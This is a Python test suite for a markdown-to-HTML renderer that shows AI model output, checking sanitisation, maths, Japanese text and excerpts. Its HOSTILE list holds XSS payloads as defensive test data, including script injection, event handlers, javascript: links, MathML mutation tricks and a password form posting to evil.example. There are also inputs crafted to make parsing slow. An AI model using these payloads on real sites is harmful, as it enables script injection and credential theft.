"""What models write is shown faithfully, and can do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from projects import markdown
from projects.markdown import TAGS, excerpt, language_of, render

VOID = {"br", "hr"}
ATTRIBUTES = {
    "class", "columnalign", "columnlines", "depth", "display", "displaystyle", "fence", "form", "height", "href", "lang",
    "largeop", "linethickness", "lspace", "mathvariant", "maxsize", "minsize", "movablelimits", "notation", "rel",
    "rowlines", "rspace", "scriptlevel", "separator", "start", "stretchy", "tabindex", "target", "title", "voffset",
    "width", "accent", "accentunder",
}  # fmt: skip


class Inventory(HTMLParser):
    """Which tags and attributes there are, as a browser's tokenizer sees them, and whether tags are closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.open: list[str] = []
        self.strange: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.strange.append(f"</{tag}>")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.strange.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def seen(html: str) -> Inventory:
    inventory = Inventory()
    inventory.feed(html)
    inventory.close()
    return inventory


def assert_harmless(html: str) -> None:
    inventory = seen(html)
    assert set(inventory.tags) <= TAGS
    assert not inventory.strange
    assert not inventory.open
    for tag, name, value in inventory.attributes:
        assert name in ATTRIBUTES, (tag, name)
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), value
        if name == "rel":
            assert value == "noopener noreferrer nofollow"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<b onmouseover=alert(1)>x</b>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<iframe src=javascript:alert(1)>",
    "<!-- hidden -->",
    "<![CDATA[x]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](http://a.example "\\" onclick=alert(1)")',
    '![x](http://a.example/"onerror=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    r"$\text{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\class{x}{y}$",
    r"$\color{red} x$",
    r"$$\text{</math><img src=x onerror=alert(1)>}$$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "| <script>x</script> | [y](javascript:z) |\n|---|---|\n| <img src=x> | ok |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_or_dropped_and_never_runs(text):
    assert_harmless(render(text))


PIECES = (
    "< > & \" ' $ $$ \\( \\) \\[ \\] ** _ ` ``` ```python~ ~ ~~ #. -. >. 1.. |. |-|-|~ [ ]( ) ![ javascript: http://a.b <script>"
    " </script> <b.onclick=x> <svg> <math> <style> \\frac \\text{ { } ^ あ 「 評定 x . &#106; \x00 \ud800"
)
markdown_pieces = st.sampled_from(
    [piece.replace("~", "\n").replace(".", " ") for piece in PIECES.split(" ")] + HOSTILE
)


@given(st.lists(markdown_pieces | st.text(max_size=8), max_size=30).map("".join))
def test_only_listed_tags_and_attributes_come_out(text):
    assert_harmless(render(text))


@given(st.text(alphabet=st.characters(codec="utf-8", categories=["L", "Nd", "Zs"]), min_size=1, max_size=200))
def test_words_are_neither_lost_nor_added(text):
    assert "".join(seen(render(text)).text.split()) == "".join(text.split())


@pytest.mark.parametrize(
    "text", ["<b>x</b>", "<!-- hidden -->", "<think>\nまず考える\n</think>", "a <br> b", "&nbsp;x &amp;amp;"]
)
def test_tags_and_comments_are_shown_as_text(text):
    assert seen(render(text)).text.split() == text.replace("&nbsp;", "\xa0").replace("&amp;", "&").split()


def test_lines_of_japanese_stay_lines():
    assert "古池や<br>\n蛙飛びこむ<br>\n水の音" in render("古池や\n蛙飛びこむ\n水の音")


@pytest.mark.parametrize(
    ("text", "emphasised"),
    [
        ("これは**「重要」**です。", "「重要」"),
        ("**60%**に増えた", "60%"),
        ("特に**注意。**ここから", "注意。"),
        ("前**強調**後", "強調"),
        ("a **b** c", "b"),
        ("한국어**(강조)**입니다", "(강조)"),
    ],
)
def test_emphasis_works_beside_japanese_punctuation(text, emphasised):
    assert f"<strong>{emphasised}</strong>" in render(text)


def test_underscores_within_a_name_stay():
    assert "<em>" not in render("snake_case_name と file_name_ja")


@pytest.mark.parametrize(
    "text",
    [
        "$x^2$",
        r"\(x^2\)",
        "値は$x^2$です",
        "$$x^2$$",
        r"\[x^2\]",
        "$$\nx^2\n$$",
        "\\[\n  x^2\n\\]",
        "- 項目\n\n  $$\n  x^2\n  $$",
    ],
)
def test_maths_becomes_mathml(text):
    html = render(text)
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert "$" not in seen(html).text


def test_maths_on_its_own_lines_stands_alone_and_other_maths_in_the_line():
    assert 'display="block"' in render("$$\nx\n$$")
    assert 'display="inline"' in render("値 $x$ は")


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "US$5, or about NZ$8.",
        "$5-$10 a month",
        "料金は$5で、会員は$3です。",
        "料金は5$で、会員は3$です。",
        "echo $HOME/$PATH",
        "a $ b $ c",
        "Prices: $5, $6, $7",
        "Pay $5 per month or buy it for 50$ once",
        r"\$5 and 6\$",
    ],
)
def test_amounts_of_money_are_not_maths(text):
    html = render(text)
    assert "<math" not in html
    assert seen(html).text.strip() == text.replace("\\", "")


def test_a_formula_that_is_not_understood_is_shown_as_it_was_written():
    assert r'<code class="source">$\unheard{x}$</code>' in render(r"$\unheard{x}$")


def test_code_is_coloured_by_classes_and_its_text_kept():
    code = 'def f(x):\n    return "<a>" # 値'
    html = render(f"```python\n{code}\n```")
    assert '<span class="k">def</span>' in html
    assert seen(html).text.strip() == code


def test_code_of_a_language_that_is_not_listed_is_left_plain():
    assert (
        render("```brainfuck\n+-\n```")
        == '<div class="md" lang="en"><pre tabindex="0"><code>+-\n</code></pre>\n</div>'
    )


def test_an_image_is_a_link_and_is_not_fetched():
    html = render("![図](https://a.example/x.png)")
    assert "<img" not in html
    assert (
        '<a href="https://a.example/x.png" target="_blank" rel="noopener noreferrer nofollow">図</a>' in html
    )


def test_headings_go_below_those_of_the_page_without_gaps():
    tags = seen(render("### a\n\n# b\n\n### c\n\n###### d\n\n## e")).tags
    assert [tag for tag in tags if tag[0] == "h"] == ["h3", "h3", "h4", "h5", "h4"]


def test_columns_are_aligned_by_classes():
    html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<td>1</td>\n<td class="center">2</td>\n<td class="num">3</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "lang"),
    [("評定とは何か", "ja"), ("東京", "ja"), ("Tokyo", "en"), ("서울", "ko"), ("", "en"), ("A と B", "ja")],
)
def test_the_language_is_told_from_the_script(text, lang):
    assert language_of(text) == lang
    assert render(text).startswith(f'<div class="md" lang="{lang}">')


def test_the_language_can_be_given():
    assert render("Bonjour", lang='fr"><x').startswith('<div class="md" lang="fr&quot;&gt;&lt;x">')


DEEP_AND_LONG = {
    "one line of a million characters": "あ" * 1_000_000,
    "a quote of a quote of a quote": "> " * 30_000 + "重要",
    "a list in a list in a list": "".join("  " * i + "- a\n" for i in range(300)) + "重要",
    "brackets": "[" * 60_000 + "重要",
    "emphasis": "**a" * 60_000 + "重要",
    "links": "[a](<b" * 30_000 + "重要",
    "backticks": "".join("`" * i + "a" for i in range(1, 600)) + "重要",
    "dollars": "$a " * 60_000 + "重要",
    "open formulas": "\\[\n" * 60_000 + "重要",
    "open formulas in a paragraph": "x\n" + "$$a\n" * 40_000 + "重要",
    "a table of twenty thousand rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000 + "|重要|",
    "formulas in formulas": "$" + r"\frac{" * 300 + "$ 重要",
    "braces": "$" + "{" * 900 + "}" * 900 + "$ 重要",
    "a wall of code": "```python\n" + "(" * 29_000 + "\n重要\n```",
    "C that lost itself in spaces": "```c\na" + " " * 8_000 + "重要\n```",
    "C++ that lost itself in lines": "```cpp\n" + "\n" * 16_000 + "重要\n```",
    "settings in one line": "```ini\n" + "a=" * 14_900 + "重要\n```",
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("text", DEEP_AND_LONG.values(), ids=DEEP_AND_LONG.keys())
def test_a_text_made_to_be_slow_is_shown_in_time_and_whole(text):
    html = render(text)  # and not in the minutes that it would take without a limit
    assert "重要" in html or "重要" not in text
    assert_harmless(html)


def test_a_failure_within_shows_the_text_as_it_is(monkeypatch, caplog):
    def fail(text):
        raise KeyError(text)

    monkeypatch.setattr(markdown, "_rendered_before", fail)
    assert render("<b>\ud800評") == '<div class="md" lang="ja"><pre class="plain">&lt;b&gt;?評</pre></div>'
    assert "could not be rendered" in caplog.text


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("# 見出し\n\n| a | b |\n|--|--:|\n| 1 | 2 |", "見出し a b 1 2"),
        ("**太字**と`code`、[案内](https://example.org)\n- 一\n- 二", "太字とcode、案内 一 二"),
        (r"so $x^2 + \frac{a}{b}$ and $\sqrt{2}$", "so x^2+a/b and √2"),
        ("```python\nprint('x')\n```\nthen <b>raw</b> & a < b", "print('x') then <b>raw</b> & a < b"),
        ("", ""),
    ],
)
def test_an_excerpt_is_one_line_without_markup(text, line):
    assert excerpt(text, 90) == line


@given(st.text(max_size=300), st.integers(2, 60))
def test_an_excerpt_is_never_longer_than_asked(text, length):
    short = excerpt(text, length)
    assert len(short) <= length
    assert "\n" not in short
